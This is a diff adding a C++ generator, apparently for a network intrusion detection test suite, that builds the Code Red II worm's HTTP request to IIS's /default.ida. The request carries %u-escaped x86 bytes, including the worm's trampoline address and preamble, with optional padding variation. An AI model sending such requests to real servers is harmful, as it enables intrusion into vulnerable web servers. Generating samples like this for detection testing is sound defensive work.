@@ -1,0 +1,63 @@
+#include "gen/codered.hpp"
+
+#include <cstdio>
+
+namespace senids::gen {
+
+using util::Bytes;
+
+namespace {
+
+/// Append one %uXXXX escape carrying two little-endian payload bytes.
+void append_u_escape(Bytes& out, std::uint8_t lo, std::uint8_t hi) {
+  char buf[8];
+  std::snprintf(buf, sizeof buf, "%%u%02x%02x", hi, lo);
+  out.insert(out.end(), buf, buf + 6);
+}
+
+void append_text(Bytes& out, std::string_view s) {
+  out.insert(out.end(), s.begin(), s.end());
+}
+
+}  // namespace
+
+Bytes make_code_red_ii_request(const CodeRedOptions& options) {
+  util::Prng prng(0);  // unused when vary_padding is false
+  CodeRedOptions opts = options;
+  opts.vary_padding = false;
+  return make_code_red_ii_request(prng, opts);
+}
+
+Bytes make_code_red_ii_request(util::Prng& prng, const CodeRedOptions& options) {
+  Bytes out;
+  append_text(out, "GET /default.ida?");
+  out.insert(out.end(), options.filler_len, 'X');
+
+  // The decoded stream is executable x86:
+  //   90 90       nop; nop
+  //   58          pop eax
+  //   68 d3 cb 01 78   push 0x7801cbd3   <- the invariant CRII trampoline
+  // repeated three times (as in the captured exploit), followed by the
+  // worm's memory-addressing preamble.
+  const std::uint8_t body[] = {
+      0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78,
+      0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78,
+      0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78,
+      0x90, 0x90, 0x90, 0x90, 0x90, 0x81, 0xc3, 0x00,
+      0x03, 0x00, 0x00, 0x8b, 0x1b, 0x53, 0xff, 0x53,
+      0x78, 0x00, 0x00, 0x00,
+  };
+  static_assert(sizeof(body) % 2 == 0);
+  for (std::size_t i = 0; i < sizeof(body); i += 2) {
+    append_u_escape(out, body[i], body[i + 1]);
+  }
+  if (options.vary_padding) {
+    const std::size_t extra = prng.below(4);
+    for (std::size_t i = 0; i < extra; ++i) append_u_escape(out, 0x90, 0x90);
+  }
+  append_text(out, "%u00=a  HTTP/1.0\r\nContent-type: text/xml\r\n"
+                   "Content-length: 3379\r\n\r\n");
+  return out;
+}
+
+}  // namespace senids::gen
